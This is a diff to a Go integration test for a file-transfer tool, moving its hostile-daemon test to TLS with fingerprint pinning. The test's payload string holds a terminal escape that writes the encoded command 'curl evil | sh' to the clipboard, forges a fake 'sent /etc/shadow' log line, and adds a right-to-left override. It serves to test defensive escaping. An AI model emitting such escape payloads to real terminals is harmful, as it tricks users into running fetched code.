@@ -10,7 +10,6 @@ package integration
 import (
 	"encoding/binary"
 	"io"
-	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -28,7 +27,7 @@ func runFerryIn(t *testing.T, dir string, args ...string) result {
 	t.Helper()
 	p := &ferryProc{t: t, cmd: exec.Command(bin.ferry, args...), done: make(chan struct{})}
 	p.cmd.Dir = dir
-	p.cmd.Env = append(childEnv(), "PWD="+dir)
+	p.cmd.Env = append(childEnv(t), "PWD="+dir)
 	p.cmd.Stdout, p.cmd.Stderr = &p.stdout, &p.stderr
 	if err := p.cmd.Start(); err != nil {
 		t.Fatalf("starting ferry: %v", err)
@@ -178,10 +177,7 @@ func TestWalkNamesEscapedOnStderr(t *testing.T) {
 // clipboard write and a forged "sent … blake3" line reaches stderr
 // escaped, on one line.
 func TestWalkRemoteTextEscaped(t *testing.T) {
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
+	ln, fp := listenTLS(t)
 	defer ln.Close()
 	evil := "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a\x1b[2K\rferry: sent /etc/shadow → x: 1 B in 0.0s (1 B/s) blake3 00\n\u202eevil"
 	served := make(chan error, 1)
@@ -211,7 +207,7 @@ func TestWalkRemoteTextEscaped(t *testing.T) {
 	}()
 	src := filepath.Join(t.TempDir(), "f.txt")
 	writeRandom(t, src, 100, 1)
-	r := runFerry(t, "send", "--to", ln.Addr().String(), "--retries", "0", src)
+	r := runFerry(t, "send", "--to", ln.Addr().String(), "--fingerprint", fp, "--retries", "0", src)
 	if err := <-served; err != nil {
 		t.Fatalf("hostile daemon: %v", err)
 	}
